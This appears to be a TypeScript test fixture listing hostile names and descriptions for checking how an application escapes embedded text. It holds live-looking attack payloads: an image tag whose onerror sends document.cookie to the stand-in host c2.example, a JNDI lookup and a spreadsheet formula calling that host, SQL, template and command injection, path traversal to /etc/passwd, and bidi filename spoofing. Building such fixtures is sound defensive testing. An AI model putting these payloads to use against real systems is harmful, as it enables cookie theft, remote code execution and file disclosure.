/**
 * Names and descriptions as an attacker, or a careless copy and paste, would
 * leave them: for every place where text is put into something else.
 */
export const HOSTILE_TEXTS: readonly (readonly [string, string])[] = [
  [
    "<script>alert(document.domain)</script>",
    '<img src=x onerror="fetch(`https://c2.example/?${document.cookie}`)"> & <b>bold</b>',
  ],
  [
    "Line one\r\nid: 1-0\r\nevent: delete\r\ndata: {}\r\n\r\n",
    'CR LF, then what looks like a frame of a stream.\n\ndata: {"type":"delete"}\n\n',
  ],
  [
    "Bell \u0007 escape \u001b[31mred\u001b[0m null \u0000 end",
    "Control characters \u0001\u0008\u000b\u007f\u0085 and separators \u2028\u2029.",
  ],
  [
    "{{7*7}} ${jndi:ldap://c2.example/a} #{1+1} <%= 7*7 %>",
    "Templates: {{constructor.constructor('return 1')()}} %s %n %x $(id) `id`",
  ],
  [
    "\" OR 1=1 -- ' ) ] } \\",
    "Quotes: ' \" ` « » \\ \\\\ */ /* --> <!-- ]]> and a query: * OR _exists_:name",
  ],
  [
    '=HYPERLINK("https://c2.example/","open")',
    "+cmd|' /C calc'!A0\n@SUM(1+1)\n-2+3",
  ],
  [
    "../../../../etc/passwd%00.json",
    "Paths: C:\\..\\..\\Windows\\win.ini /../../x?y=z&a=b#c %2e%2e%2f",
  ],
  [
    "\u202egnp.exe\u202c \u200bzero\u200bwidth e\u0301 𝕬 🦊 نص עברית 日本語",
    "Directions, combining marks, characters outside of the basic plane: 👩‍👩‍👧‍👦.",
  ],
  [
    "title: yes\nlevel: &a [*a, *a]\n--- !!js/function 'x'",
    "key: value\n- list\n? complex\n| block\n%TAG ! x:",
  ],
  [
    "[click me](javascript:alert(1)) **bold** ~~gone~~",
    "| a | b |\n|---|---|\n| `x` | <details open ontoggle=alert(1)> |",
  ],
  [
    "__proto__",
    "constructor toString valueOf hasOwnProperty null undefined NaN true -0 1e999",
  ],
];
